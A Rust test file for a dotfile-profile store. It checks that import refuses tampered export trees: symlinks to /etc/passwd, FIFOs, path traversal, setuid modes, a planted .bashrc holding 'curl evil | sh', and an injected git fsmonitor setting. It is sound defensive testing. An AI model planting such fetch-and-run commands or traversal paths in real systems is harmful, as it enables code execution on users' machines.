//! Export and import of profiles as a directory tree: the round trip, and an import
//! directory that tries to smuggle in symlinks, special files, bad paths and modes.

// Test code: a failed unwrap is a failed test.
#![allow(clippy::unwrap_used)]

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use qcs_core::store::{FileEdit, MANIFEST_FILE_NAME, Store, StoreError};
use qcs_protocol::limits::MAX_FILE_BYTES;
use qcs_protocol::literal::{pid, rp};

fn sample_store() -> Store {
    let mut store = Store::open_in_memory().unwrap();
    store
        .create_profile(&pid("git"), "git \"settings\"\n")
        .unwrap();
    store.create_profile(&pid("ssh"), "").unwrap();
    store
        .put_files(
            &pid("git"),
            &[
                FileEdit {
                    path: &rp(".gitconfig"),
                    content: Some(b"[user]\n\tname = A\n"),
                    mode: 0o644,
                },
                FileEdit {
                    path: &rp(".config/git/ignore"),
                    content: Some(b"*.o\n"),
                    mode: 0o600,
                },
                FileEdit {
                    path: &rp(".local/bin/git-x"),
                    content: Some(b"#!/bin/sh\n\x00\xff binary ok\n"),
                    mode: 0o755,
                },
            ],
        )
        .unwrap();
    store
        .put_file(&pid("ssh"), &rp(".ssh/config"), b"Host *\n", 0o600)
        .unwrap();
    store
}

/// Per profile: id, description, and (path, content, mode) of each current file.
type StoreSnapshot = Vec<(String, String, Vec<(String, Vec<u8>, u32)>)>;

fn snapshot(store: &Store) -> StoreSnapshot {
    store
        .profiles()
        .unwrap()
        .into_iter()
        .map(|p| {
            let files = store
                .current_files(&p.id)
                .unwrap()
                .into_iter()
                .map(|f| (f.path.to_string(), f.bytes, f.mode.bits()))
                .collect();
            (p.id.to_string(), p.description, files)
        })
        .collect()
}

fn exported() -> (tempfile::TempDir, std::path::PathBuf, Store) {
    let mut store = sample_store();
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("backup");
    store.export_profiles(&out, &[]).unwrap();
    (dir, out, store)
}

fn assert_refused(out: &Path) -> String {
    let mut fresh = Store::open_in_memory().unwrap();
    let error = fresh.import_profiles(out).unwrap_err();
    assert!(
        fresh.profiles().unwrap().is_empty(),
        "import was not all-or-nothing"
    );
    error.to_string()
}

#[test]
fn export_then_import_round_trips_contents_modes_and_descriptions() {
    let (_dir, out, store) = exported();
    let mode = |p: &str| fs::metadata(out.join(p)).unwrap().permissions().mode() & 0o7777;
    assert_eq!(mode("git/.local/bin/git-x"), 0o755);
    assert_eq!(mode("git/.config/git/ignore"), 0o600);
    assert_eq!(mode("ssh/.ssh/config"), 0o600);
    assert!(out.join(MANIFEST_FILE_NAME).is_file());

    let mut fresh = Store::open_in_memory().unwrap();
    let summary = fresh.import_profiles(&out).unwrap();
    assert_eq!(summary.profiles.len(), 2);
    assert_eq!(snapshot(&fresh), snapshot(&store));

    // Importing the same tree again changes nothing: no new generation.
    let before = fresh.profile(&pid("git")).unwrap().unwrap().generation;
    fresh.import_profiles(&out).unwrap();
    assert_eq!(
        fresh.profile(&pid("git")).unwrap().unwrap().generation,
        before
    );
    assert!(fresh.verify().unwrap().is_empty());
}

#[test]
fn import_sets_a_profile_to_exactly_the_imported_files_keeping_history() {
    let (_dir, out, _store) = exported();
    let mut target = Store::open_in_memory().unwrap();
    target.create_profile(&pid("git"), "").unwrap();
    target
        .put_file(&pid("git"), &rp(".stale"), b"old", 0o644)
        .unwrap();
    target.import_profiles(&out).unwrap();
    assert!(
        target
            .current_file(&pid("git"), &rp(".stale"))
            .unwrap()
            .is_none()
    );
    assert_eq!(
        target
            .file_history(&pid("git"), &rp(".stale"))
            .unwrap()
            .len(),
        2
    );
}

#[test]
fn export_selects_profiles_and_refuses_a_non_empty_target() {
    let mut store = sample_store();
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("only-ssh");
    let summary = store.export_profiles(&out, &[pid("ssh")]).unwrap();
    assert_eq!((summary.profiles, summary.files), (1, 1));
    assert!(!out.join("git").exists());
    assert!(matches!(
        store.export_profiles(&out, &[]),
        Err(StoreError::ExportRefused(_))
    ));
    assert!(matches!(
        store.export_profiles(&dir.path().join("x"), &[pid("nope")]),
        Err(StoreError::ProfileNotFound(_))
    ));
}

#[test]
fn import_refuses_a_symlinked_file() {
    let (_dir, out, _store) = exported();
    let target = out.join("ssh/.ssh/config");
    fs::remove_file(&target).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", &target).unwrap();
    let error = assert_refused(&out);
    assert!(error.contains("symlink"), "{error}");
}

#[test]
fn import_refuses_a_symlinked_directory() {
    let (dir, out, _store) = exported();
    // Move the real directory away and put a link in its place: the content still
    // matches the manifest, only the path goes through a symlink.
    let real = dir.path().join("elsewhere");
    fs::rename(out.join("git/.config"), &real).unwrap();
    std::os::unix::fs::symlink(&real, out.join("git/.config")).unwrap();
    let error = assert_refused(&out);
    assert!(error.contains("symlink"), "{error}");
}

#[test]
fn import_refuses_special_files() {
    let (_dir, out, _store) = exported();
    let target = out.join("ssh/.ssh/config");
    fs::remove_file(&target).unwrap();
    rustix::fs::mknodat(
        rustix::fs::CWD,
        &target,
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o644),
        0,
    )
    .unwrap();
    // Must not block on the FIFO, and must refuse it.
    let error = assert_refused(&out);
    assert!(error.contains("not a regular file"), "{error}");

    let (_dir, out, _store) = exported();
    let _socket = std::os::unix::net::UnixListener::bind(out.join("git/sock")).unwrap();
    let error = assert_refused(&out);
    assert!(error.contains("special file"), "{error}");
}

#[test]
fn import_refuses_unlisted_files_and_directories() {
    let (_dir, out, _store) = exported();
    fs::write(out.join("git/.bashrc"), b"curl evil | sh\n").unwrap();
    let error = assert_refused(&out);
    assert!(error.contains("not listed"), "{error}");

    let (_dir, out, _store) = exported();
    fs::create_dir(out.join("stray")).unwrap();
    let error = assert_refused(&out);
    assert!(error.contains("not a profile"), "{error}");
}

#[test]
fn import_refuses_changed_content_and_oversize_files() {
    let (_dir, out, _store) = exported();
    fs::write(out.join("git/.gitconfig"), b"[core]\n\tfsmonitor = x\n").unwrap();
    let error = assert_refused(&out);
    assert!(error.contains("sha256"), "{error}");

    let (_dir, out, _store) = exported();
    fs::write(out.join("git/.gitconfig"), vec![b'x'; MAX_FILE_BYTES + 1]).unwrap();
    let error = assert_refused(&out);
    assert!(error.contains("limit"), "{error}");
}

fn edit_manifest(out: &Path, from: &str, to: &str) {
    let path = out.join(MANIFEST_FILE_NAME);
    let text = fs::read_to_string(&path).unwrap();
    assert!(text.contains(from), "{from} not in manifest:\n{text}");
    fs::write(&path, text.replacen(from, to, 1)).unwrap();
}

#[test]
fn import_refuses_bad_modes_paths_and_ids_in_the_manifest() {
    for (from, to) in [
        ("mode = \"0755\"", "mode = \"4755\""),
        ("mode = \"0755\"", "mode = \"0777\""),
        ("mode = \"0755\"", "mode = \"rwx\""),
        (
            "[profiles.ssh.files.\".ssh/config\"]",
            "[profiles.ssh.files.\"../../.ssh/config\"]",
        ),
        (
            "[profiles.ssh.files.\".ssh/config\"]",
            "[profiles.ssh.files.\"/etc/passwd\"]",
        ),
        ("[profiles.ssh]", "[profiles.\"SSH/..\"]"),
        ("format = 2", "format = 3"),
        ("format = 2", "format = 0"),
        ("format = 2", "format = 2\nextra = true"),
    ] {
        let (_dir, out, _store) = exported();
        edit_manifest(&out, from, to);
        assert_refused(&out);
    }
    let (_dir, out, _store) = exported();
    fs::remove_file(out.join(MANIFEST_FILE_NAME)).unwrap();
    assert_refused(&out);
    let (_dir, out, _store) = exported();
    let manifest = out.join(MANIFEST_FILE_NAME);
    fs::remove_file(&manifest).unwrap();
    std::os::unix::fs::symlink("/etc/hostname", &manifest).unwrap();
    assert_refused(&out);
}
